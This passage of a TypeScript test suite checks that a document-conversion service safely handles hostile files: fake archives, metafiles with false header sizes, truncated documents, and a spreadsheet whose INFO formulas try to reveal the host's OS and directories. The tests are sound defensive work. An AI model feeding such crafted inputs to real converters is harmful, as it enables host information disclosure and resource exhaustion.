    file: zipOf([{ name: 'a.txt', content: 'x' }]),
    as: 'a.docx',
    to: 'pdf',
    ends: 'reject',
    why: 'INVALID_FORMAT',
  },
  {
    name: 'a Java archive',
    file: zipOf([{ name: 'META-INF/MANIFEST.MF', content: 'x' }]),
    as: 'a.odt',
    to: 'pdf',
    ends: 'reject',
    why: 'INVALID_FORMAT',
  },
  {
    name: 'an empty ZIP',
    file: Buffer.concat([latin1('PK\x05\x06'), Buffer.alloc(18)]),
    as: 'a.docx',
    to: 'pdf',
    ends: 'reject',
    why: 'INVALID_FORMAT',
  },
  { name: 'four bytes of a ZIP', file: latin1('PK\x03\x04'), as: 'a.docx', to: 'pdf', ends: 'reject', why: 'INVALID_FORMAT' },
];

let locking: Promise<ReadonlyMap<string, Buffer>> | undefined;
const locked = () => (locking ??= lockedDocuments());

const mutation = (source: string, to: string): Mutated => ({
  source,
  to,
  bytes: async (place) => readFile((await fixtures[source]?.('kestrel', place)) ?? ''),
});

const fixtures = { ...documents, ...images };

/** @param at place of a number of 32 bits in the header */
const changed = (bytes: Buffer, at: number, value: number): Buffer => {
  const copy = Buffer.from(bytes);
  copy.writeUInt32LE(value >>> 0, at);
  return copy;
};
const damaged = (name: string, file: Buffer, as: string, targets: readonly string[] = ['png']): readonly Case[] =>
  toEach(targets, { name, file, as, ends: ['neutral', 'fail'] });
/** [MS-EMF] 2.3.4.2, [MS-WMF] 2.3.2.2: what the headers say is not true. */
const DRAWINGS: readonly Case[] = [
  damaged('a metafile of 20 km', changed(changed(emf('kestrel'), 32, 0x7fffffff), 36, 0x7fffffff), 'a.emf', ['png', 'pdf']),
  damaged('a metafile whose frame has no area', changed(changed(emf('kestrel'), 32, 0), 36, 0), 'a.emf', ['png', 'pdf']),
  damaged('a metafile of 4 billion records and bytes', changed(changed(emf('kestrel'), 48, 0xffffffff), 52, 0xffffffff), 'a.emf'),
  damaged('a metafile with a record of 4 GB', changed(emf('kestrel'), 104, 0xfffffffc), 'a.emf'),
  damaged('a metafile with a record of no bytes', changed(emf('kestrel'), 104, 0), 'a.emf'),
  damaged('a header of a metafile and nothing else', emf('kestrel').subarray(0, 88), 'a.emf', ['png', 'pdf']),
  damaged('an old metafile with a record of 8 GB', changed(wmf('kestrel'), 40, 0xffffffff), 'a.wmf'),
].flat();

/** Cut short at each of a few places. */
const cut = (source: string, to: string): Case[] =>
  [0.2, 0.6, 0.97].map((share) => ({
    name: `the first ${share * 100} % of a good ${source}`,
    file: async () => {
      const { mkdtemp, rm } = await import('node:fs/promises');
      const folder = await mkdtemp('/tmp/hostile-office-');
      try {
        const whole = await mutation(source, to).bytes(folder);
        return whole.subarray(0, Math.floor(whole.length * share));
      } finally {
        await rm(folder, { recursive: true });
      }
    },
    as: `a.${source}`,
    to,
    ends: ['neutral', 'fail', 'reject'] satisfies Ending[],
  }));

/** Everything that INFO knows, in every place where a formula may stand. */
const INFO = (() => {
  const told = (formula: string, more = '') => `<table:table-cell ${more} table:formula="of:=${escapeXml(formula)}"/>`;
  const asked = ['osversion', 'system', 'release', 'directory'].map((what) => told(`INFO("${what}")`)).join('');
  const array = 'table:number-matrix-rows-spanned="1" table:number-matrix-columns-spanned=';
  return flat(
    'spreadsheet',
    `<table:table table:name="One"><table:table-row>${asked}${told('IF(1;info( "os"&"version");2)')}${told('named')}${told('local')}${told('CELL("filename")')}</table:table-row><table:table-row table:visibility="filter">${asked}</table:table-row><table:table-row table:visibility="collapse">${asked}</table:table-row><table:table-row>${told('INFO({"osversion"|"release"})', `${array}"2"`)}<table:table-cell/>${told('INFO("osversion")', `${array}"1"`)}</table:table-row><table:named-expressions><table:named-expression table:name="local" table:base-cell-address="$One.$A$1" table:expression="of:INFO(&quot;release&quot;)"/></table:named-expressions></table:table><table:named-expressions><table:named-expression table:name="named" table:base-cell-address="$One.$A$1" table:expression="of:INFO(&quot;osversion&quot;)"/></table:named-expressions>`,
  );
})();

async function tellsNoMachine(output: Buffer, { data }: Answer): Promise<void> {
  const folder = await mkdtemp('/tmp/filemill-told-');
  try {
    const path = join(folder, data?.output?.filename ?? '');
    await writeFile(path, output);
    const parts = output.subarray(0, 2).toString() === 'PK' ? [...(await unzip(output)).values()] : [output];
    const text = path.endsWith('.pdf') ? execFileSync('/usr/bin/pdftotext', [path, '-']).toString() : Buffer.concat(parts).toString();
    expect(text).toContain('osversion');
    expect(text).not.toMatch(/Linux \d|LINUX|Build:|\/(tmp|var|usr|home|root)\b/);
    expect(data?.warnings.map(({ code }) => code)).toContain('info_removed');
  } finally {
    await rm(folder, { recursive: true });
  }
}

const TELLING: readonly Case[] = [
  ...toEach(['csv', 'xlsx', 'ods', 'xls', 'html', 'pdf'], {
    name: 'a sheet that asks for the machine',
    file: INFO,
    as: 'a.fods',
    ends: 'neutral',
    judge: tellsNoMachine,
  }),
  ...toEach(['odt', 'fodt', 'doc', 'rtf'], {
    name: 'a document that wants its fonts along',
    file: docx('<w:p><w:r><w:rPr><w:rFonts w:ascii="Noto Sans CJK SC" w:hAnsi="Noto Sans CJK SC"/></w:rPr><w:t>kestrel</w:t></w:r></w:p>', {
      relations: [['rId7', 'settings', 'settings.xml']],
      types: { 'word/settings.xml': 'wordprocessingml.settings' },
      parts: [['word/settings.xml', `${XML}<w:settings ${WORD}><w:embedTrueTypeFonts/><w:saveSubsetFonts/></w:settings>`]],
    }),
    as: 'a.docx',
    ends: 'neutral',
    judge: (output) => expect(output.length).toBeLessThan(200_000),
  }),
];

const ground: Ground = {
  honest: { name: 'honest.txt', bytes: Buffer.from(`An honest text ${randomBytes(4).toString('hex')}\n`), to: 'pdf' },
};

/** What never ends shall not hold up the tests for as long as it may hold up the service. */
const hurried: Ground = { ...ground, seconds: 5 };
proveHarmless(ground, {
  'word-processor documents that reach out': WORDS,
  'OpenDocument and sheets that reach out': OPEN,
  'documents that tell of the machine': TELLING,
  'documents with macros': MACROS,
  'pages, books and markup that reach out': [...PAGES, ...PACKED_BOOKS, ...SVGS],
  'documents that are shut, or none': SHUT,
  'documents cut short': [
    cut('docx', 'pdf'),
    cut('xlsx', 'csv'),
    cut('odt', 'md'),
    cut('doc', 'pdf'),
    cut('epub', 'html'),
    cut('mobi', 'epub'),
    cut('lit', 'epub'),
    cut('lrf', 'epub'),
    cut('rtf', 'txt'),
    cut('fodt', 'pdf'),
    cut('odg', 'pdf'),
    cut('emf', 'png'),
    cut('wmf', 'png'),
  ].flat(),
});
proveHarmless(hurried, {
  'drawings that say what is not so': DRAWINGS,
  'documents that exhaust': BOMBS,
  'documents with entities': ENTITIES,
});
proveMutationsHarmless(
  ground,
  [
    mutation('docx', 'pdf'),
    mutation('xlsx', 'csv'),
    mutation('odt', 'md'),
    mutation('fodt', 'pdf'),
    mutation('doc', 'txt'),
    mutation('xls', 'csv'),
    mutation('ppt', 'pdf'),
    mutation('odg', 'pdf'),
    mutation('emf', 'png'),
    mutation('wmf', 'png'),
    mutation('rtf', 'pdf'),
    mutation('epub', 'html'),
    mutation('mobi', 'epub'),
    mutation('azw3', 'html'),
    mutation('lit', 'epub'),
    mutation('lrf', 'epub'),
    mutation('rb', 'epub'),
    mutation('prc', 'epub'),
    mutation('tcr', 'epub'),
    mutation('html', 'docx'),
    mutation('fods', 'xlsx'),
    mutation('ipynb', 'html'),
  ],
  6,
);
